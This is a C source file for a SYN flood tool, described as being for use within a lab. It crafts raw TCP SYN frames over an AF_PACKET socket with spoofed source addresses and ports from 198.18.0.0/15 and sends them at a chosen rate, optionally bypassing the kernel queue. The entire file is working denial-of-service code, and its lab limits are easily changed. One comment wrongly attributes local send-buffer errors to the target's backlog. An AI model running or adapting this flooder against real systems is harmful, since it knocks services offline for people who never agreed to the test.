// SPDX-License-Identifier: MIT
/*
 * A SYN flood within the lab: COUNT TCP SYNs over an AF_PACKET socket, each of its own (source address, port) out of
 * 198.18.0.0/15. Says in one line of JSON how many went out and how long that took.
 *
 *	synflood INTERFACE SOURCE_MAC TARGET_MAC TARGET_IP PORT COUNT PER_SECOND BYPASS
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NS_PER_S 1000000000ull
#define BATCH 64
#define FIRST_SOURCE 0xc6120000u /* 198.18.0.0 */
#define SOURCES 0x20000u /* a /15 */
#define FIRST_PORT 1024

struct frame {
	unsigned char target[6], source[6];
	uint16_t protocol;
	struct {
		uint8_t version_and_length, tos;
		uint16_t length, identity, fragment;
		uint8_t ttl, protocol;
		uint16_t checksum;
		uint32_t source, target;
	} __attribute__((packed)) ip;
	struct {
		uint16_t source, target;
		uint32_t sequence, acknowledgment;
		uint8_t length, flags;
		uint16_t window, checksum, urgent;
		uint8_t mss[4];
	} __attribute__((packed)) tcp;
} __attribute__((packed));

static void die(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * NS_PER_S + now.tv_nsec;
}

static uint32_t sum(const void *data, size_t length, uint32_t total)
{
	const unsigned char *bytes = data;

	for (size_t i = 0; i + 1 < length; i += 2)
		total += bytes[i] << 8 | bytes[i + 1];
	return total;
}

static uint16_t folded(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons(~total);
}

static void fill(struct frame *frame, uint64_t number)
{
	frame->ip.source = htonl(FIRST_SOURCE + number % SOURCES);
	frame->ip.identity = htons(number);
	frame->ip.checksum = 0;
	frame->ip.checksum = folded(sum(&frame->ip, sizeof(frame->ip), 0));
	frame->tcp.source = htons(FIRST_PORT + number / SOURCES);
	frame->tcp.sequence = htonl(number * 2654435761u);
	frame->tcp.checksum = 0;
	/* The pseudo header: both addresses, the protocol, the length. */
	frame->tcp.checksum = folded(sum(&frame->tcp, sizeof(frame->tcp),
					 sum(&frame->ip.source, 8, IPPROTO_TCP + sizeof(frame->tcp))));
}

static void parse_mac(const char *text, unsigned char *mac)
{
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) !=
	    6)
		die(text);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	static struct frame frames[BATCH];
	static struct iovec parts[BATCH];
	static struct mmsghdr messages[BATCH];
	uint64_t wanted, rate, sent = 0, refused = 0, began;
	int fd;

	if (argc != 9)
		die("usage: synflood INTERFACE SOURCE_MAC TARGET_MAC TARGET_IP PORT COUNT PER_SECOND BYPASS");
	wanted = strtoull(argv[6], NULL, 10);
	rate = strtoull(argv[7], NULL, 10);
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (fd < 0)
		die("socket");
	address.sll_ifindex = if_nametoindex(argv[1]);
	if (!address.sll_ifindex || bind(fd, (struct sockaddr *)&address, sizeof(address)))
		die(argv[1]);
	if (atoi(argv[8]) && setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &(int){1}, sizeof(int)))
		die("PACKET_QDISC_BYPASS");
	for (int i = 0; i < BATCH; i++) {
		struct frame *frame = &frames[i];

		parse_mac(argv[2], frame->source);
		parse_mac(argv[3], frame->target);
		frame->protocol = htons(ETH_P_IP);
		frame->ip.version_and_length = 0x45;
		frame->ip.length = htons(sizeof(frame->ip) + sizeof(frame->tcp));
		frame->ip.ttl = 64;
		frame->ip.protocol = IPPROTO_TCP;
		if (inet_pton(AF_INET, argv[4], &frame->ip.target) != 1)
			die(argv[4]);
		frame->tcp.target = htons(atoi(argv[5]));
		frame->tcp.length = sizeof(frame->tcp) / 4 << 4;
		frame->tcp.flags = 2; /* SYN */
		frame->tcp.window = htons(64240);
		memcpy(frame->tcp.mss, "\x02\x04\x05\xb4", 4);
		parts[i] = (struct iovec){.iov_base = frame, .iov_len = sizeof(*frame)};
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	began = now_ns();
	while (sent < wanted) {
		unsigned int batch = wanted - sent < BATCH ? wanted - sent : BATCH, done = 0;

		if (rate) {
			uint64_t due = began + sent * NS_PER_S / rate;
			struct timespec until = {.tv_sec = due / NS_PER_S, .tv_nsec = due % NS_PER_S};

			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
		}
		for (unsigned int i = 0; i < batch; i++)
			fill(&frames[i], sent + i);
		while (done < batch) {
			int went = sendmmsg(fd, messages + done, batch - done, 0);

			if (went < 0) {
				if (errno != ENOBUFS && errno != EAGAIN)
					die("sendmmsg");
				refused++;
				usleep(100); /* the peer's backlog is full: this frame goes again */
				continue;
			}
			done += went;
		}
		sent += batch;
	}
	printf("{\"sent\": %lu, \"refused\": %lu, \"seconds\": %.6f}\n", sent, refused,
	       (now_ns() - began) / (double)NS_PER_S);
	return 0;
}
